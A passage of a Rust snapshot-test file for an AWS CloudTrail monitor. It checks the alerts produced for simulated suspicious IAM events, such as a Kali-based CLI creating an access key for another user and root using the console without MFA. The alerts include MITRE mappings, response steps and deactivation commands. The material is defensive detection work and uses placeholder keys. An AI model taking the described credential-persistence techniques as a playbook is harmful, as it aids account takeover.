@@ -1,0 +1,1249 @@
+#![expect(clippy::too_many_lines, reason = "a snapshot is as long as the text that it holds")]
+
+use insta::assert_snapshot;
+use proptest::prelude::*;
+use serde_json::{Value, json};
+
+use super::*;
+use crate::config::{Config, Mode};
+use crate::detect;
+use crate::event::{Actor, Event, Human, Kind, Origin, Target, ToldBy};
+use crate::finding::{Ask, EventRef, Evidence, Severity};
+use crate::quarantine::{Call, Facts, KeyFacts, Plan, Refusal, State, Step};
+use crate::watcher::Watcher;
+
+fn at(time: &str) -> Timestamp {
+    time.parse().unwrap()
+}
+
+fn config() -> Config {
+    let names = [("111122223333", "prod-payments"), ("123456789012", "dev")];
+    Config { account_names: names.map(|(id, name)| (id.to_owned(), name.to_owned())).into(), ..Config::default() }
+}
+
+fn enforcing() -> Config {
+    let mut config = config();
+    config.quarantine.mode = Mode::Enforce;
+    config
+}
+
+/// `fields` of the record replace those of a key that alice makes for deploy-bot.
+fn key_for_another(fields: &Value) -> Finding {
+    let mut record = json!({
+        "eventVersion": "1.09",
+        "userIdentity": {
+            "type": "IAMUser",
+            "principalId": "AIDAEXAMPLEALICE",
+            "arn": "arn:aws:iam::111122223333:user/eng/alice",
+            "accountId": "111122223333",
+            "accessKeyId": "AKIAI44QH8DHBEXAMPLE",
+            "userName": "alice",
+        },
+        "eventTime": "2026-11-22T04:13:05Z",
+        "eventSource": "iam.amazonaws.com",
+        "eventName": "CreateAccessKey",
+        "awsRegion": "us-east-1",
+        "sourceIPAddress": "198.51.100.7",
+        "userAgent": "aws-cli/2.15.30 Python/3.11.8 Linux/6.1.0-kali5-amd64 exe/x86_64.kali.2024",
+        "requestParameters": {"userName": "deploy-bot"},
+        "responseElements": {"accessKey": {
+            "accessKeyId": "AKIAIOSFODNN7EXAMPLE",
+            "userName": "deploy-bot",
+            "secretAccessKey": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
+            "status": "Active",
+        }},
+        "eventID": "0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9",
+        "readOnly": false,
+        "eventType": "AwsApiCall",
+        "recipientAccountId": "111122223333",
+    });
+    merge(&mut record, fields);
+    found(Watcher::AccessKeys, &record)
+}
+
+fn merge(record: &mut Value, fields: &Value) {
+    for (key, value) in fields.as_object().unwrap() {
+        record[key] = value.clone();
+    }
+}
+
+fn found(watcher: Watcher, record: &Value) -> Finding {
+    let envelope = json!({
+        "version": "0",
+        "id": "6a7e8feb-b491-4cf7-a9f1-bf3703467718",
+        "detail-type": "AWS API Call via CloudTrail",
+        "source": "aws.iam",
+        "account": "111122223333",
+        "region": "us-east-1",
+        "detail": record,
+    });
+    detect::look(watcher, &Event::decode(envelope), &Context { config: &config() }).unwrap()
+}
+
+fn standing(finding: &Finding) -> Standing {
+    Standing { incident: finding.incident(), count: 1, speaks: true, unclaimed: false }
+}
+
+fn alert(finding: &Finding, config: &Config) -> Alert {
+    of_finding(finding, &standing(finding), &Context { config }, at("2026-11-22T04:13:46Z"))
+}
+
+fn role_session(arn_role: &str, session: &str, more: &Value) -> Value {
+    let mut identity = json!({
+        "type": "AssumedRole",
+        "principalId": format!("AROAEXAMPLEROLE:{session}"),
+        "arn": format!("arn:aws:sts::111122223333:assumed-role/{arn_role}/{session}"),
+        "accountId": "111122223333",
+        "accessKeyId": "ASIAIOSFODNN7EXAMPLE",
+        "sessionContext": {
+            "sessionIssuer": {
+                "type": "Role",
+                "arn": format!("arn:aws:iam::111122223333:role/{arn_role}"),
+                "accountId": "111122223333",
+                "userName": arn_role,
+            },
+            "attributes": {"mfaAuthenticated": "false"},
+        },
+    });
+    merge(&mut identity, more);
+    identity
+}
+
+#[test]
+fn a_key_made_for_another_user_reads_well_in_dry_run() {
+    let alert = alert(&key_for_another(&json!({})), &config());
+    assert_snapshot!(alert.subject, @"[HIGH] created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot - prod-payments");
+    assert_snapshot!(alert.email, @r"
+    user alice created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments.
+
+    Severity:   HIGH
+    What:       Access key created for another user
+    Who:        arn:aws:iam::111122223333:user/eng/alice
+                IAM user, signed with long-term key AKIAI44QH8DHBEXAMPLE
+    Target:     user deploy-bot
+    From:       198.51.100.7, not in the console
+                via AWS CLI on kali (user agent: aws-cli/2.15.30 Python/3.11.8
+                Linux/6.1.0-kali5-amd64 exe/x…)
+    Account:    prod-payments (111122223333)
+    Region:     us-east-1
+    When:       2026-11-22 04:13:05 UTC, told 41 s later
+    Quarantine: dry-run: nothing was changed; it would run
+                aws iam update-access-key --user-name=deploy-bot --access-key-id=AKIAIOSFODNN7EXAMPLE --status=Inactive
+
+    Why it matters
+      Whoever made the key has seen its secret, and can now act as that user from
+      anywhere, until somebody switches the key off. It is the commonest way to
+      stay in an account, and a way up where the user may do more than its maker.
+
+    False alarms
+      An administrator or a pipeline that hands out keys. The key should have a
+      ticket, and its user an owner who expects it.
+
+    What to do
+      1. Ask whoever is named under Who whether they made the key, over a channel
+         that is not their mail.
+      2. If not: set the key Inactive with the command under Undo, and cut off the
+         maker's own credentials.
+      3. List all calls signed by the new key since the event, by
+         `userIdentity.accessKeyId`.
+      4. List all calls by the maker's ARN in the 24 hours before the event: how
+         did they come to be able to?
+
+    Undo, in account prod-payments (111122223333)
+      aws iam update-access-key --user-name=deploy-bot --access-key-id=AKIAIOSFODNN7EXAMPLE --status=Inactive
+
+    Links
+      Event:
+      https://us-east-1.console.aws.amazon.com/cloudtrailv2/home?region=us-east-1#/events/0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9
+      User deploy-bot:
+      https://us-east-1.console.aws.amazon.com/iam/home#/users/details/deploy-bot?section=security_credentials
+      User alice:
+      https://us-east-1.console.aws.amazon.com/iam/home#/users/details/alice?section=security_credentials
+
+    MITRE:     T1098.001 Account Manipulation: Additional Cloud Credentials
+    Detection: access-key-created-for-another-user
+    Incident:  17704b59892036e5ea3519872befc2cd
+    Event:     iam.amazonaws.com CreateAccessKey
+    Event id:  0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9
+    ");
+    assert_snapshot!(alert.sms, @"HIGH: user alice created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments");
+}
+
+#[test]
+fn a_finding_reads_well_in_a_chat_channel() {
+    let alert = alert(&key_for_another(&json!({})), &config());
+    assert_snapshot!(pretty(&alert.chat), @r#"
+    {
+      "content": {
+        "description": "`user alice created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments.`\nWho: `arn:aws:iam::111122223333:user/eng/alice`\nFrom: `198.51.100.7`\nAccount: `prod-payments (111122223333)`\nWhen: `2026-11-22 04:13:05 UTC, told 41 s later`\nQuarantine: `dry-run, nothing was changed`\nUndo: `aws iam update-access-key --user-name=deploy-bot --access-key-id=AKIAIOSFODNN7EXAMPLE --status=Inactive`\nEvent: https://us-east-1.console.aws.amazon.com/cloudtrailv2/home?region=us-east-1#/events/0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9\nUser deploy-bot: https://us-east-1.console.aws.amazon.com/iam/home#/users/details/deploy-bot?section=security_credentials\nUser alice: https://us-east-1.console.aws.amazon.com/iam/home#/users/details/alice?section=security_credentials",
+        "keywords": [
+          "HIGH",
+          "access-key-created-for-another-user",
+          "prod-payments"
+        ],
+        "nextSteps": [
+          "Ask whoever is named under Who whether they made the key, over a channel that is not their mail.",
+          "If not: set the key Inactive with the command under Undo, and cut off the maker's own credentials.",
+          "List all calls signed by the new key since the event, by `userIdentity.accessKeyId`.",
+          "List all calls by the maker's ARN in the 24 hours before the event: how did they come to be able to?"
+        ],
+        "textType": "client-markdown",
+        "title": "[HIGH] Access key created for another user"
+      },
+      "id": "0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9",
+      "metadata": {
+        "additionalContext": {
+          "account": "111122223333",
+          "count": "1",
+          "eventName": "CreateAccessKey",
+          "region": "us-east-1",
+          "severity": "HIGH"
+        },
+        "eventType": "access-key-created-for-another-user",
+        "relatedResources": [
+          "user deploy-bot"
+        ],
+        "summary": "[HIGH] created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot - prod-payments",
+        "threadId": "17704b59892036e5ea3519872befc2cd"
+      },
+      "source": "custom",
+      "version": "1.0"
+    }
+    "#);
+}
+
+#[test]
+fn machines_read_a_detection_finding_of_ocsf() {
+    let alert = alert(&key_for_another(&json!({})), &config());
+    assert_snapshot!(pretty(&alert.machine), @r#"
+    {
+      "activity_id": 1,
+      "activity_name": "Create",
+      "actor": {
+        "user": {
+          "account": {
+            "name": "prod-payments",
+            "type": "AWS Account",
+            "type_id": 10,
+            "uid": "111122223333"
+          },
+          "credential_uid": "AKIAI44QH8DHBEXAMPLE",
+          "name": "alice",
+          "type": "User",
+          "type_id": 1,
+          "uid": "arn:aws:iam::111122223333:user/eng/alice",
+          "uid_alt": "AIDAEXAMPLEALICE"
+        }
+      },
+      "api": {
+        "operation": "CreateAccessKey",
+        "service": {
+          "name": "iam.amazonaws.com"
+        }
+      },
+      "category_name": "Findings",
+      "category_uid": 2,
+      "class_name": "Detection Finding",
+      "class_uid": 2004,
+      "cloud": {
+        "account": {
+          "name": "prod-payments",
+          "type": "AWS Account",
+          "type_id": 10,
+          "uid": "111122223333"
+        },
+        "provider": "AWS",
+        "region": "us-east-1"
+      },
+      "count": 1,
+      "evidences": [
+        {
+          "actor": {
+            "user": {
+              "account": {
+                "name": "prod-payments",
+                "type": "AWS Account",
+                "type_id": 10,
+                "uid": "111122223333"
+              },
+              "credential_uid": "AKIAI44QH8DHBEXAMPLE",
+              "name": "alice",
+              "type": "User",
+              "type_id": 1,
+              "uid": "arn:aws:iam::111122223333:user/eng/alice",
+              "uid_alt": "AIDAEXAMPLEALICE"
+            }
+          },
+          "api": {
+            "operation": "CreateAccessKey",
+            "service": {
+              "name": "iam.amazonaws.com"
+            }
+          },
+          "data": {
+            "User agent": "aws-cli/2.15.30 Python/3.11.8 Linux/6.1.0-kali5-amd64 exe/x86_64.kali.2024"
+          },
+          "src_endpoint": {
+            "ip": "198.51.100.7"
+          }
+        }
+      ],
+      "finding_info": {
+        "analytic": {
+          "name": "Access key created for another user",
+          "type": "Rule",
+          "type_id": 1,
+          "uid": "access-key-created-for-another-user"
+        },
+        "attacks": [
+          {
+            "sub_technique": {
+              "name": "Additional Cloud Credentials",
+              "uid": "T1098.001"
+            },
+            "technique": {
+              "name": "Account Manipulation",
+              "uid": "T1098"
+            }
+          }
+        ],
+        "created_time": 1795320826000,
+        "desc": "user alice created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments",
+        "first_seen_time": 1795320785000,
+        "title": "Access key created for another user",
+        "types": [
+          "access-key-created-for-another-user"
+        ],
+        "uid": "17704b59892036e5ea3519872befc2cd/0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9"
+      },
+      "is_alert": true,
+      "message": "user alice created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments.",
+      "metadata": {
+        "correlation_uid": "17704b59892036e5ea3519872befc2cd",
+        "event_code": "CreateAccessKey",
+        "original_time": "2026-11-22T04:13:05Z",
+        "product": {
+          "name": "iamwatch",
+          "vendor_name": "iamwatch",
+          "version": "0.1.0"
+        },
+        "profiles": [
+          "cloud",
+          "host"
+        ],
+        "uid": "17704b59892036e5ea3519872befc2cd/0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9/1",
+        "version": "1.6.0"
+      },
+      "remediation": {
+        "desc": "Ask whoever is named under Who whether they made the key, over a channel that is not their mail.\nIf not: set the key Inactive with the command under Undo, and cut off the maker's own credentials.\nList all calls signed by the new key since the event, by `userIdentity.accessKeyId`.\nList all calls by the maker's ARN in the 24 hours before the event: how did they come to be able to?"
+      },
+      "resources": [
+        {
+          "name": "deploy-bot",
+          "region": "us-east-1",
+          "type": "user"
+        }
+      ],
+      "severity": "High",
+      "severity_id": 4,
+      "start_time": 1795320785000,
+      "status": "New",
+      "status_id": 1,
+      "time": 1795320826000,
+      "type_name": "Detection Finding: Create",
+      "type_uid": 200401,
+      "unmapped": {
+        "iamwatch": {
+          "also": [],
+          "asks": "disable-access-key",
+          "attack_was": [],
+          "console": false,
+          "count": 1,
+          "event_id": "0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9",
+          "human_told_by": null,
+          "incident": "17704b59892036e5ea3519872befc2cd",
+          "quarantine": null,
+          "quarantine_mode": "dry-run",
+          "unclaimed": false,
+          "undo": "aws iam update-access-key --user-name=deploy-bot --access-key-id=AKIAIOSFODNN7EXAMPLE --status=Inactive"
+        }
+      }
+    }
+    "#);
+}
+
+#[test]
+fn filter_policies_find_what_they_match_on() {
+    let alert = alert(&key_for_another(&json!({})), &config());
+    assert_snapshot!(format!("{:#?}", alert.attributes), @r#"
+    {
+        "account": "111122223333",
+        "detection": "access-key-created-for-another-user",
+        "mode": "dry-run",
+        "severity": "HIGH",
+        "watcher": "access-keys",
+    }
+    "#);
+}
+
+#[test]
+fn in_enforce_the_mail_says_what_quarantine_will_do() {
+    let alert = alert(&key_for_another(&json!({})), &enforcing());
+    assert_snapshot!(lines_with(&alert.email, "uarantine", 2), @r"
+    Quarantine: enforce: will set key AKIAIOSFODNN7EXAMPLE Inactive unless a guard
+                stops it; its report follows
+    ");
+}
+
+#[test]
+fn with_quarantine_off_the_mail_says_nothing_of_it() {
+    let mut config = config();
+    config.quarantine.mode = Mode::Off;
+    let finding = key_for_another(&json!({}));
+    assert!(!alert(&finding, &config).email.contains("uarantine"));
+    assert!(!alert(&finding, &config).chat.contains("uarantine"));
+}
+
+#[test]
+fn a_user_of_identity_center_is_named_before_the_role() {
+    let identity = role_session("AWSReservedSSO_AdministratorAccess_0123456789abcdef", "alice@corp", &json!({}));
+    let agent = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36";
+    let finding =
+        key_for_another(&json!({"userIdentity": identity, "userAgent": agent, "sessionCredentialFromConsole": "true"}));
+    let mut config = config();
+    config.portal_url = Some("https://example.awsapps.com/start".to_owned());
+    let alert = alert(&finding, &config);
+    assert_snapshot!(alert.subject, @"[HIGH] created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot - prod-payments");
+    assert_snapshot!(alert.email, @r"
+    alice@corp (SSO AdministratorAccess) created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments.
+
+    Severity:   HIGH
+    What:       Access key created for another user
+    Who:        alice@corp, from Identity Center user name
+                arn:aws:iam::111122223333:role/AWSReservedSSO_AdministratorAccess_0123456789abcdef
+                Identity Center session, signed with temporary key
+                ASIAIOSFODNN7EXAMPLE
+    Target:     user deploy-bot
+    From:       198.51.100.7, in the console
+                via a browser (user agent: Mozilla/5.0 (Macintosh; Intel Mac OS X
+                10_15_7) AppleWebKit…)
+    Account:    prod-payments (111122223333)
+    Region:     us-east-1
+    When:       2026-11-22 04:13:05 UTC, told 41 s later
+    Quarantine: dry-run: nothing was changed; it would run
+                aws iam update-access-key --user-name=deploy-bot --access-key-id=AKIAIOSFODNN7EXAMPLE --status=Inactive
+
+    Why it matters
+      Whoever made the key has seen its secret, and can now act as that user from
+      anywhere, until somebody switches the key off. It is the commonest way to
+      stay in an account, and a way up where the user may do more than its maker.
+
+    False alarms
+      An administrator or a pipeline that hands out keys. The key should have a
+      ticket, and its user an owner who expects it.
+
+    What to do
+      1. Ask whoever is named under Who whether they made the key, over a channel
+         that is not their mail.
+      2. If not: set the key Inactive with the command under Undo, and cut off the
+         maker's own credentials.
+      3. List all calls signed by the new key since the event, by
+         `userIdentity.accessKeyId`.
+      4. List all calls by the maker's ARN in the 24 hours before the event: how
+         did they come to be able to?
+
+    Undo, in account prod-payments (111122223333)
+      aws iam update-access-key --user-name=deploy-bot --access-key-id=AKIAIOSFODNN7EXAMPLE --status=Inactive
+
+    Links
+      Event:
+      https://example.awsapps.com/start/#/console?account_id=111122223333&destination=https%3A%2F%2Fus-east-1.console.aws.amazon.com%2Fcloudtrailv2%2Fhome%3Fregion%3Dus-east-1%23%2Fevents%2F0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9
+      User deploy-bot:
+      https://example.awsapps.com/start/#/console?account_id=111122223333&destination=https%3A%2F%2Fus-east-1.console.aws.amazon.com%2Fiam%2Fhome%23%2Fusers%2Fdetails%2Fdeploy-bot%3Fsection%3Dsecurity_credentials
+
+    MITRE:     T1098.001 Account Manipulation: Additional Cloud Credentials
+    Detection: access-key-created-for-another-user
+    Incident:  bc967afbb2c4ae4363bf1a631bf1cf34
+    Event:     iam.amazonaws.com CreateAccessKey
+    Event id:  0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9
+    ");
+    assert_snapshot!(alert.sms, @"HIGH: alice@corp (SSO AdministratorAccess) created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments");
+}
+
+#[test]
+fn a_role_session_of_another_account_is_told_with_its_session_and_the_service_between() {
+    let service = "cloudformation.amazonaws.com";
+    let elsewhere = json!({"accountId": "123456789012", "invokedBy": service});
+    let identity = role_session("build-agent", "i-0abc1234def567890", &elsewhere);
+    let finding = key_for_another(&json!({"userIdentity": identity, "sourceIPAddress": service, "userAgent": service}));
+    let alert = alert(&finding, &config());
+    assert_snapshot!(first_block(&alert.email), @"role build-agent (session i-0abc1234def567890) from account dev created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments.");
+    assert_snapshot!(lines_with(&alert.email, "Who:", 9), @r"
+    Who:        arn:aws:iam::111122223333:role/build-agent
+                role session i-0abc1234def567890, of account dev, signed with
+                temporary key ASIAIOSFODNN7EXAMPLE
+    Target:     user deploy-bot
+    From:       cloudformation.amazonaws.com, on the actor's behalf
+    Account:    prod-payments (111122223333)
+    Region:     us-east-1
+    When:       2026-11-22 04:13:05 UTC, told 41 s later
+    Quarantine: dry-run: nothing was changed; it would run
+    ");
+}
+
+#[test]
+fn who_is_said_in_words_for_every_kind() {
+    let session = |told_by| Some(Human { name: "alice@corp".to_owned(), told_by });
+    let base = key_for_another(&json!({}));
+    let who = |kind, name: &str, session: Option<&str>, human: Option<Human>| {
+        let mut finding = base.clone();
+        let session = session.map(str::to_owned);
+        finding.actor = Actor { kind, name: name.to_owned(), session, human, ..finding.actor };
+        finding.actor.account = None;
+        let standing = standing(&finding);
+        let config = config();
+        Words::of_finding(&finding, &standing, &Context { config: &config }, Timestamp::UNIX_EPOCH).who()
+    };
+    let said = [
+        who(Kind::Root, "root", None, None),
+        who(Kind::CentralRoot, "root", None, session(ToldBy::SourceIdentity)),
+        who(Kind::IamUser, "alice", None, None),
+        who(Kind::Role, "deploy", Some("alice@corp"), session(ToldBy::SessionName)),
+        who(Kind::Role, "build-agent", Some("i-0abc1234def567890"), None),
+        who(Kind::IdentityCenterUser, "906768-1234", None, None),
+        who(Kind::WebIdentity, "repo:example/app", None, None),
+        who(Kind::SamlUser, "", None, None),
+        who(Kind::FederatedUser, "bob", None, None),
+        who(Kind::OtherAccount, "123456789012", None, None),
+        who(Kind::Service, "autoscaling.amazonaws.com", None, None),
+        who(Kind::Unknown, "", None, None),
+    ];
+    assert_snapshot!(said.join("\n"), @r"
+    root
+    alice@corp (root, in a central root session)
+    user alice
+    alice@corp (role deploy, by its session name)
+    role build-agent (session i-0abc1234def567890)
+    Identity Center user 906768-1234
+    web identity repo:example/app
+    an unnamed SAML user
+    federated user bob
+    account dev (123456789012)
+    AWS service autoscaling.amazonaws.com
+    somebody
+    ");
+}
+
+#[test]
+fn what_root_does_in_the_console_reads_well() {
+    let finding = found(
+        Watcher::RootUsage,
+        &json!({
+            "userIdentity": {
+                "type": "Root",
+                "principalId": "111122223333",
+                "arn": "arn:aws:iam::111122223333:root",
+                "accountId": "111122223333",
+                "accessKeyId": "ASIAIOSFODNN7EXAMPLE",
+                "sessionContext": {"sessionIssuer": {}, "attributes": {"mfaAuthenticated": "false"}},
+            },
+            "eventTime": "2026-11-22T04:09:00Z",
+            "eventSource": "s3.amazonaws.com",
+            "eventName": "PutBucketPolicy",
+            "awsRegion": "eu-central-1",
+            "sourceIPAddress": "203.0.113.9",
+            "userAgent": "[S3Console/0.4, aws-internal/3]",
+            "requestParameters": {"bucketName": "example-ledger"},
+            "eventID": "5f4e3d2c-1b0a-4998-8877-665544332211",
+            "eventType": "AwsApiCall",
+            "recipientAccountId": "111122223333",
+        }),
+    );
+    assert_snapshot!(alert(&finding, &config()).email, @r"
+    root called PutBucketPolicy on bucket example-ledger in prod-payments.
+
+    Severity: HIGH
+    What:     Root user used
+    Who:      arn:aws:iam::111122223333:root
+              root user, signed with temporary key ASIAIOSFODNN7EXAMPLE, without
+              MFA
+    From:     203.0.113.9, in the console
+              user agent: [S3Console/0.4, aws-internal/3]
+    Account:  prod-payments (111122223333)
+    Region:   eu-central-1
+    When:     2026-11-22 04:09:00 UTC, told 5 min later
+
+    Why it matters
+      Root can do anything in the account, and no policy of the account limits it.
+      Daily work never needs it: after the account's first day, only a handful of
+      tasks do.
+
+    False alarms
+      A planned root task, such as closing the account or changing its support
+      plan. It should have a ticket, and a person who can be asked.
+
+    What to do
+      1. Ask the people who hold root's credentials whether one of them is doing
+         this, now.
+      2. If not: change root's password, delete its access keys and re-register
+         its MFA device, from a clean machine.
+      3. List all calls by root in the 24 hours before this event, by
+         `userIdentity.type` `Root`.
+      4. Look for what outlives root's session: users, access keys, roles and
+         trust policies made since the first of them.
+
+    Links
+      Event:
+      https://eu-central-1.console.aws.amazon.com/cloudtrailv2/home?region=eu-central-1#/events/5f4e3d2c-1b0a-4998-8877-665544332211
+
+    MITRE:     T1078.004 Valid Accounts: Cloud Accounts
+    Detection: root-api-call
+    Incident:  33fb2fe34dc9a435fbfa1ddb31945f77
+    Event:     s3.amazonaws.com PutBucketPolicy
+    Event id:  5f4e3d2c-1b0a-4998-8877-665544332211
+    ");
+}
+
+#[test]
+fn an_event_that_could_not_be_read_says_only_what_is_known() {
+    let finding =
+        detect::look(Watcher::AccessKeys, &Event::decode(json!([1, 2, 3])), &Context { config: &config() }).unwrap();
+    let alert = alert(&finding, &config());
+    assert_snapshot!(alert.subject, @"[MEDIUM] sent an event that could not be read");
+    assert_snapshot!(alert.email, @r"
+    somebody sent an event that could not be read.
+
+    Severity: MEDIUM
+    What:     Event that could not be read
+    When:     told 2026-11-22 04:13:46 UTC
+    Fault:    the record is a list, not an object
+
+    Why it matters
+      iamwatch is blind to this event. Either AWS changed the shape of its
+      records, or somebody who may invoke the function sends it made-up events.
+
+    False alarms
+      A test event sent by hand from the Lambda console.
+
+    What to do
+      1. Read the fault above, and the event in the function's log group at the
+         alert's time.
+      2. In CloudTrail, list the `Invoke` and `PutEvents` calls of the 15 minutes
+         before the alert and who made them.
+      3. If AWS sent it, report the event's shape to iamwatch's maintainers.
+
+    Detection: unreadable-event
+    Incident:  970cde6a0841ddfcf9056ed7eb07b316
+    ");
+    assert_snapshot!(alert.sms, @"MEDIUM: somebody sent an event that could not be read");
+    assert_snapshot!(format!("{:?}", alert.attributes), @r#"{"detection": "unreadable-event", "mode": "dry-run", "severity": "MEDIUM", "watcher": "root-usage"}"#);
+    let human = [&alert.email, &alert.chat, &alert.sms].map(|form| form.to_lowercase());
+    assert!(human.iter().all(|form| !form.contains("unknown") && !form.contains("none")));
+}
+
+#[test]
+fn an_alert_without_a_ledger_says_that_it_may_come_again() {
+    let finding = key_for_another(&json!({}));
+    let standing = Standing::unclaimed(&finding);
+    let config = enforcing();
+    let alert = of_finding(&finding, &standing, &Context { config: &config }, at("2026-11-22T04:13:46Z"));
+    assert_snapshot!(alert.email.lines().take(8).collect::<Vec<_>>().join("\n"), @r"
+    user alice created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments.
+
+    Note: The ledger cannot be reached: this alert may come again, and quarantine
+    does not act.
+
+    Severity: HIGH
+    What:     Access key created for another user
+    Who:      arn:aws:iam::111122223333:user/eng/alice
+    ");
+    assert!(!alert.email.contains("will set key"), "it promises what it cannot keep:\n{}", alert.email);
+}
+
+#[test]
+fn an_incident_that_grew_is_counted_in_subject_and_sentence() {
+    let finding = key_for_another(&json!({}));
+    let due = Due { incident: finding.incident(), finding, opened: at("2026-11-22T04:13:46Z"), count: 37, told: 1 };
+    let config = enforcing();
+    let alert = of_due(&due, &Context { config: &config }, at("2026-11-22T04:29:10Z"));
+    assert_snapshot!(alert.subject, @"[HIGH] x37 in 15 min: created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot - prod-payments");
+    assert_snapshot!(alert.email, @r"
+    user alice created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments, x37 in 15 min, 36 of them since the last mail.
+
+    37 events make this one incident. What follows is about one of them.
+
+    Severity:   HIGH
+    What:       Access key created for another user
+    Who:        arn:aws:iam::111122223333:user/eng/alice
+                IAM user, signed with long-term key AKIAI44QH8DHBEXAMPLE
+    Target:     user deploy-bot
+    From:       198.51.100.7, not in the console
+                via AWS CLI on kali (user agent: aws-cli/2.15.30 Python/3.11.8
+                Linux/6.1.0-kali5-amd64 exe/x…)
+    Account:    prod-payments (111122223333)
+    Region:     us-east-1
+    When:       2026-11-22 04:13:05 UTC, told 16 min later
+    Seen:       x37 in 15 min, 36 of them since the last mail
+    Quarantine: enforce: each key is dealt with on its own; see the reports
+
+    Why it matters
+      Whoever made the key has seen its secret, and can now act as that user from
+      anywhere, until somebody switches the key off. It is the commonest way to
+      stay in an account, and a way up where the user may do more than its maker.
+
+    False alarms
+      An administrator or a pipeline that hands out keys. The key should have a
+      ticket, and its user an owner who expects it.
+
+    What to do
+      1. Ask whoever is named under Who whether they made the key, over a channel
+         that is not their mail.
+      2. If not: set the key Inactive with the command under Undo, and cut off the
+         maker's own credentials.
+      3. List all calls signed by the new key since the event, by
+         `userIdentity.accessKeyId`.
+      4. List all calls by the maker's ARN in the 24 hours before the event: how
+         did they come to be able to?
+
+    Undo, in account prod-payments (111122223333)
+      aws iam update-access-key --user-name=deploy-bot --access-key-id=AKIAIOSFODNN7EXAMPLE --status=Inactive
+
+    Links
+      Event:
+      https://us-east-1.console.aws.amazon.com/cloudtrailv2/home?region=us-east-1#/events/0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9
+      User deploy-bot:
+      https://us-east-1.console.aws.amazon.com/iam/home#/users/details/deploy-bot?section=security_credentials
+      User alice:
+      https://us-east-1.console.aws.amazon.com/iam/home#/users/details/alice?section=security_credentials
+
+    MITRE:     T1098.001 Account Manipulation: Additional Cloud Credentials
+    Detection: access-key-created-for-another-user
+    Incident:  17704b59892036e5ea3519872befc2cd
+    Event:     iam.amazonaws.com CreateAccessKey
+    Event id:  0b1c2d3e-4f50-4617-8293-a4b5c6d7e8f9
+    Opened:    2026-11-22 04:13:46 UTC
+    ");
+    assert_snapshot!(alert.sms, @"HIGH: user alice created access key AKIAIOSFODNN7EXAMPLE for user deploy-bot in prod-payments, x37 in 15 min");
+    assert_snapshot!(pretty(&alert.machine).lines().take(12).collect::<Vec<_>>().join("\n"), @r#"
+    {
+      "activity_id": 2,
+      "activity_name": "Update",
+      "actor": {
+        "user": {
+          "account": {
+            "name": "prod-payments",
+            "type": "AWS Account",
+            "type_id": 10,
+            "uid": "111122223333"
+          },
+          "credential_uid": "AKIAI44QH8DHBEXAMPLE",
+    "#);
+}
+
+fn record(state: State, refusal: Option<Refusal>) -> Record {
+    let finding = key_for_another(&json!({}));
+    let Some(Ask::DisableAccessKey { user, key }) = finding.asks.clone() else { unreachable!() };
+    let step = Step::DisableAccessKey { user, key: key.clone() };
+    let error = (state == State::Failed).then(|| "AccessDenied: not allowed to call iam:UpdateAccessKey".to_owned());
+    let call = Call { what: step.words(), at: at("2026-11-22T04:13:48Z"), error };
+    Record {
+        id: "q-0123456789ab".to_owned(),
+        state,
+        finding,
+        plan: Plan { steps: if refusal.is_none() { vec![step] } else { Vec::new() }, refusal },
+        before: Some(Facts {
+            arn: "arn:aws:iam::111122223333:user/apps/deploy-bot".to_owned(),
+            keys: vec![
+                KeyFacts {
+                    id: "AKIAI44QH8DHBEXAMPLE".to_owned(),
+                    active: false,
+                    created: Some(at("2024-02-01T09:00:00Z")),
+                },
+                KeyFacts { id: key, active: true, created: Some(at("2026-11-22T04:13:05Z")) },
+            ],
+        }),
+        calls: if refusal.is_none() && state != State::DryRun { vec![call] } else { Vec::new() },
+        received: at("2026-11-22T04:13:46Z"),
+        at: at("2026-11-22T04:13:49Z"),
+        told: false,
+    }
+}
+
+#[test]
+fn a_containment_that_is_proven_says_how_to_take_it_back() {
+    let config = enforcing();
+    let alert = of_containment(&record(State::Verified, None), &Context { config: &config });
+    assert_snapshot!(alert.subject, @"[HIGH] iamwatch set access key AKIAIOSFODNN7EXAMPLE of user deploy-bot Inactive - prod-payments");
+    assert_snapshot!(alert.email, @r"
+    iamwatch set access key AKIAIOSFODNN7EXAMPLE of user deploy-bot Inactive in prod-payments.
+
+    Severity: HIGH
+    State:    VERIFIED, IAM was asked again and says so
+    Because:  user alice created access key AKIAIOSFODNN7EXAMPLE for user
+              deploy-bot in prod-payments
+    Account:  prod-payments (111122223333)
+    When:     2026-11-22 04:13:05 UTC, told 44 s later
+    Calls:    2026-11-22 04:13:48 UTC set access key AKIAIOSFODNN7EXAMPLE of user
+              deploy-bot Inactive: done
+    Before:   arn:aws:iam::111122223333:user/apps/deploy-bot
+              AKIAI44QH8DHBEXAMPLE Inactive, made 2024-02-01 09:00:00 UTC
+              AKIAIOSFODNN7EXAMPLE Active, made 2026-11-22 04:13:05 UTC
+
+    What to do
+      1. Nothing is needed for this key. If it was made for good reason, give it
+         back with a command under Undo.
+      2. Follow the steps of the alert itself: the maker of the key may hold other
+         credentials.
+
